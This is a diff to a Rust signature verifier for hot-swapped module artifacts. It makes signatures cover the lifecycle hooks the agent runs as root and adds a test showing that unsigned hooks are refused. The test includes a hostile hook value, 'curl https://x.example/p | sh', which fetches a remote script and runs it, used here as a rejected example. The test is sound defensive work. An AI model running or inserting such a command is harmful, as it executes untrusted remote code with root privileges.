@@ -9,7 +9,7 @@ use awc::http::StatusCode;
 use base64::Engine;
 use bytes::{Bytes, BytesMut};
 use futures::StreamExt;
-use hotswap_actors::domain::ArtifactInfo;
+use hotswap_actors::domain::{ArtifactInfo, ModuleHooks};
 
 use crate::crypto::rsa_sig::{parse_public_key, verify_digest, MIN_KEY_BITS};
 use crate::crypto::{hex, sha256};
@@ -109,6 +109,9 @@ pub struct Expected<'a> {
     /// The digest the command named (the run's), if any.
     pub digest: Option<&'a str>,
     pub info: &'a ArtifactInfo,
+    /// The hooks the command carries: this agent runs them as root, so the
+    /// signature must cover them (the second statement form).
+    pub hooks: &'a ModuleHooks,
     pub trusted_keys: &'a [String],
     pub accept_bare_signatures: bool,
     pub require_signature: bool,
@@ -136,7 +139,7 @@ pub fn verify(bytes: &[u8], expected: &Expected<'_>) -> Result<(), String> {
     let signature = base64::engine::general_purpose::STANDARD
         .decode(signature.trim())
         .map_err(|_| format!("refused {module} {version}: its signature is not base64"))?;
-    let digests = signed_digests(module, version, digest, expected.accept_bare_signatures);
+    let digests = signed_digests(module, version, digest, expected.hooks, expected.accept_bare_signatures);
     let verified = expected
         .trusted_keys
         .iter()
@@ -154,7 +157,7 @@ mod tests {
     use std::sync::OnceLock;
 
     use base64::Engine;
-    use hotswap_actors::domain::{ArtifactInfo, SignatureAlgorithm};
+    use hotswap_actors::domain::{ArtifactInfo, ModuleHooks, SignatureAlgorithm};
 
     use super::{verify, Expected};
     use crate::crypto::rsa_sig::{self, parse_private_key};
@@ -171,10 +174,17 @@ mod tests {
 
     /// The artifact's info as the registry would send it, signed by `key`'s private half.
     fn info(signed: bool) -> ArtifactInfo {
+        info_with_hooks(signed, &NO_HOOKS)
+    }
+
+    static NO_HOOKS: ModuleHooks =
+        ModuleHooks { activate: None, deactivate: None, health: None, prepare_standby: None };
+
+    fn info_with_hooks(signed: bool, hooks: &ModuleHooks) -> ArtifactInfo {
         let digest = hex(&sha256(BYTES));
         let signature = signed.then(|| {
             let private = parse_private_key(&key().0).unwrap();
-            let signed = statement("m", "1.0.0", &digest);
+            let signed = statement("m", "1.0.0", &digest, hooks);
             let sig = rsa_sig::sign(&private, SignatureAlgorithm::RsaPkcs1v15Sha256, signed.as_bytes()).unwrap();
             base64::engine::general_purpose::STANDARD.encode(sig)
         });
@@ -187,6 +197,7 @@ mod tests {
             version: "1.0.0",
             digest: None,
             info,
+            hooks: &NO_HOOKS,
             trusted_keys: keys,
             accept_bare_signatures: false,
             require_signature,
@@ -197,6 +208,22 @@ mod tests {
     fn a_signature_by_a_trusted_key_over_the_expected_bytes_passes() {
         let (info, keys) = (info(true), vec![key().1.clone()]);
         assert_eq!(verify(BYTES, &expected(&info, &keys, true)), Ok(()));
+    }
+
+    #[test]
+    fn hooks_the_signature_does_not_cover_are_refused() {
+        let hooks = ModuleHooks { activate: Some("insmod \"$HOTSWAP_ARTIFACT\"".into()), ..ModuleHooks::default() };
+        let keys = vec![key().1.clone()];
+        // Signed with its hooks: passes with them, not with others or none.
+        let signed = info_with_hooks(true, &hooks);
+        assert_eq!(verify(BYTES, &Expected { hooks: &hooks, ..expected(&signed, &keys, true) }), Ok(()));
+        let evil = ModuleHooks { activate: Some("curl https://x.example/p | sh".into()), ..ModuleHooks::default() };
+        assert!(verify(BYTES, &Expected { hooks: &evil, ..expected(&signed, &keys, true) }).is_err());
+        assert!(verify(BYTES, &expected(&signed, &keys, true)).is_err());
+        // Signed without hooks (the first form): hooks sent beside it are refused.
+        let plain = info(true);
+        let why = verify(BYTES, &Expected { hooks: &hooks, ..expected(&plain, &keys, true) }).unwrap_err();
+        assert!(why.ends_with("its signature does not verify against any key this agent trusts"), "{why}");
     }
 
     #[test]
